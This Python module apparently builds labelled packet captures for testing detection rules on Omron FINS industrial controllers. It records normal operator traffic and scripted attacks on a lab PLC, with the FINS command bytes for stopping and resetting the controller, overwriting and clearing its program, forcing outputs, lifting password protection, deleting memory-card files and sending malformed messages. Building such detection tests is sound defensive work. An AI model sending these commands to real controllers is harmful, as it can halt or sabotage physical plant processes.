"""Proof captures of the FINS rules: the cell at work, and what intruders do to its controller (library `fins`)."""

from __future__ import annotations

import socket
import struct
import time

from compose.plant.addresses import FINS_PORT, ip
from compose.plant.catalogue import capture
from compose.plant.fins_device import PASSWORD, controller
from compose.plant.fins_work import AREAS, WHOLE_PROGRAM, Client, Work, fetch, load, place, work_as
from compose.plant.lab import Lab

NORMAL = "fins/hmi-normal.pcap"
ALL_RULES = "FN01 FN01P FN01U FN01W FN01N FN01F FN01S FN01I FN01C FN01D FN01M"
_POLL = 0.5  # seconds


def _operate(seconds: float) -> Work:
    """Poll as an operator station does, with a set-point now and then."""

    def work(client: Client) -> None:
        for number in range(int(seconds / _POLL)):
            client.read(AREAS.DATA_MEMORY_WORD, 0, 8)
            client.read(AREAS.CIO_BIT, 10, 8)
            if number % 8 == 4:
                client.write(AREAS.DATA_MEMORY_WORD, 20, struct.pack(">H", 200 + number % 3), 1)
            time.sleep(_POLL)

    return work


def _maintain(client: Client) -> None:
    """What an engineering station does without changing anything."""
    client.own.cpu_unit_data_read(b"\0")
    client.own.cpu_unit_status_read()
    client.ask(0x0502, b"\0\x19")
    client.ask(0x0701)
    fetch(client, 500)


def _normal(lab: Lab, seconds: float) -> None:
    with controller(lab):
        operator = lab["hmi"].begin(work_as, lab, "hmi", _operate(seconds))
        time.sleep(1)
        work_as(lab, "eng", _maintain, tcp=True)
        operator.result(90)


@capture(
    NORMAL,
    "A FINS cell at work: polling over UDP, set-points, an engineering station that looks over FINS/TCP. Learn the "
    "baseline from it.",
    "plc5 hmi eng",
    rules=ALL_RULES,
    kind="benign",
    check={"omron.command==0x0101": 60, "omron.command==0x0102": 4, "omron.command==0x0306": 4},
)
def hmi_normal(lab: Lab) -> None:
    """25 seconds of normal work."""
    _normal(lab, 25)


@capture(
    "fins/hmi-normal-later.pcap",
    "The same cell later: same clients, objects and ranges. With the baseline learned, nothing may fire.",
    "plc5 hmi eng",
    rules=ALL_RULES,
    kind="benign",
    learn=NORMAL,
    check={"omron.command==0x0101": 20},
)
def hmi_normal_later(lab: Lab) -> None:
    """8 seconds of the same work."""
    _normal(lab, 8)


def _attack(
    lab: Lab, name: str, techniques: str, rules: str, work: Work, source: str = "att", tcp: bool = False
) -> None:
    """Do the work beside an operator station that polls."""
    with controller(lab):
        operator = lab["hmi"].begin(work_as, lab, "hmi", _operate(3), "plc5", False, 0)
        time.sleep(1)
        with lab.step(name, source, "plc5", techniques.split(), rules.split()):
            work_as(lab, source, work, tcp=tcp)
        operator.result(60)


@capture("fins/stop.pcap", "A stranger stops the controller, starts it in MONITOR mode and resets it.", "plc5 hmi att",
         rules="FN01", learn=NORMAL, check={"omron.command==0x0402": 2, "omron.command==0x0401": 2})  # fmt: skip
def stop(lab: Lab) -> None:
    """Three changes of mode."""

    def work(client: Client) -> None:
        client.own.change_to_program_mode()
        client.ask(0x0401, WHOLE_PROGRAM + b"\2")
        client.ask(0x0403)

    _attack(lab, "stop, start and reset the controller", "T0858 T0816", "FN01", work)


@capture("fins/program-write.pcap", "A stranger loads a program, clears it and writes routing tables, over FINS/TCP.",
         "plc5 hmi att", rules="FN01P FN01", learn=NORMAL, check={"omron.command==0x0307": 4})  # fmt: skip
def program_write(lab: Lab) -> None:
    """A program of 500 bytes."""

    def work(client: Client) -> None:
        client.own.change_to_program_mode()
        load(client, bytes(500), 250)
        client.ask(0x0308, WHOLE_PROGRAM + b"\0")
        client.ask(0x0202, b"\x80\x13\0\0\x80\2" + bytes(4))

    _attack(lab, "load and clear the program", "T0843 T0889", "FN01P", work, tcp=True)


@capture("fins/program-read.pcap", "A stranger reads the program out.", "plc5 hmi att", rules="FN01U", learn=NORMAL,
         check={"omron.command==0x0306": 4})  # fmt: skip
def program_read(lab: Lab) -> None:
    """The whole program."""
    _attack(lab, "read the program out", "T0845", "FN01U", lambda client: void(fetch(client, 500)))


@capture("fins/unauthorised-write.pcap", "A host that may not write changes a set-point and fills a range.",
         "plc5 hmi att", rules="FN01W", learn=NORMAL, check={"omron.command==0x0102": 2})  # fmt: skip
def unauthorised_write(lab: Lab) -> None:
    """Two writes."""

    def work(client: Client) -> None:
        client.write(AREAS.DATA_MEMORY_WORD, 20, b"\x03\xe7", 1)
        client.ask(0x0103, place(AREAS.HOLDING_WORD, 0) + b"\0\x0a\0\0")

    _attack(lab, "unauthorised write", "T0855 T0836", "FN01W", work)


@capture("fins/first-write.pcap", "The operator station, an allowed writer, writes words it never wrote.", "plc5 hmi",
         rules="FN01N", learn=NORMAL, check={"omron.command==0x0102": 2})  # fmt: skip
def first_write(lab: Lab) -> None:
    """Two writes to the holding area."""

    def work(client: Client) -> None:
        client.write(AREAS.HOLDING_WORD, 5, b"\0\1", 1)
        client.write(AREAS.HOLDING_WORD, 6, b"\0\2", 1)

    _attack(lab, "first write to an area", "T0836", "FN01N", work, source="hmi")


@capture("fins/force.pcap", "A stranger forces an output on and releases all forced bits.", "plc5 hmi att",
         rules="FN01F", learn=NORMAL, check={"omron.command==0x2301": 2})  # fmt: skip
def force(lab: Lab) -> None:
    """One bit forced."""

    def work(client: Client) -> None:
        client.ask(0x2301, b"\0\1" + b"\0\1" + place(AREAS.CIO_BIT, 3, 2))
        client.ask(0x2302)

    _attack(lab, "force an output", "T0835 T0831", "FN01F", work)


@capture("fins/protection.pcap", "A stranger lifts the program's protection and takes the access right by force.",
         "plc5 hmi att", rules="FN01S", learn=NORMAL,
         check={"omron.command==0x0305": 4, "omron.command==0x0c02": 2})  # fmt: skip
def protection(lab: Lab) -> None:
    """A wrong password, the right one, the access right."""

    def work(client: Client) -> None:
        whole = WHOLE_PROGRAM + b"\0" + struct.pack(">II", 0, 0xFFFFFFFF)
        for password in (b"00000000", PASSWORD):
            client.ask(0x0305, whole + password)
        client.ask(0x0C02, WHOLE_PROGRAM)

    _attack(lab, "lift the protection, take the access right", "T0859 T0892", "FN01S", work)


@capture("fins/identification-by-stranger.pcap", "A stranger reads model, versions and units, as scanners do.",
         "plc5 hmi att", rules="FN01I", learn=NORMAL, check={"omron.command==0x0501": 2})  # fmt: skip
def identification(lab: Lab) -> None:
    """What scanners ask."""

    def work(client: Client) -> None:
        client.own.cpu_unit_data_read(b"\0")
        client.ask(0x0502, b"\0\x19")

    _attack(lab, "read the identification", "T0888", "FN01I", work, tcp=True)


@capture("fins/clock-set.pcap", "A stranger sets the clock.", "plc5 hmi att", rules="FN01C", learn=NORMAL,
         check={"omron.command==0x0702": 2})  # fmt: skip
def clock_set(lab: Lab) -> None:
    """One setting."""
    _attack(lab, "set the clock", "T0836", "FN01C",
            lambda client: void(client.ask(0x0702, bytes.fromhex("20010100000000"))))  # fmt: skip


@capture("fins/files.pcap", "A stranger overwrites and deletes files of the memory card, clears the error log.",
         "plc5 hmi att", rules="FN01D", learn=NORMAL,
         check={"omron.command==0x2203": 2, "omron.command==0x2205": 2})  # fmt: skip
def files(lab: Lab) -> None:
    """Three changes."""

    def work(client: Client) -> None:
        client.ask(0x2203, b"\x80\0\0\1AUTOEXEC.OBJ" + struct.pack(">IH", 0, 64) + bytes(64))
        client.ask(0x2205, b"\x80\0\0\1RECIPE  .IOM")
        client.ask(0x2103)

    _attack(lab, "change files, clear the log", "T0889 T0809", "FN01D", work)


@capture("fins/malformed.pcap", "Broken messages of a stranger: lengths, areas, commands that are none; made by hand.",
         "plc5 att", rules="FN01M", learn=NORMAL, check={"omron": 5})  # fmt: skip
def malformed(lab: Lab) -> None:
    """Six datagrams."""
    header = bytes.fromhex("80000200280000420001")
    texts = (b"\5\1\0", b"\1\1\x82\0", b"\1\2\x82\0\x64\0\0\4\0\1", b"\x0f\x0f", b"\1\1\x55\0\x64\0\0\1", b"\7\7\7")

    def send() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
            end.bind(("", FINS_PORT))
            for text in texts:
                end.sendto(header + text, (ip("plc5"), FINS_PORT))
                time.sleep(0.1)

    with controller(lab), lab.step("malformed messages", "att", "plc5", ["T0814"], ["FN01M"]):
        lab["att"].call(send)


def void(_: object) -> None:
    """Work that returns nothing."""
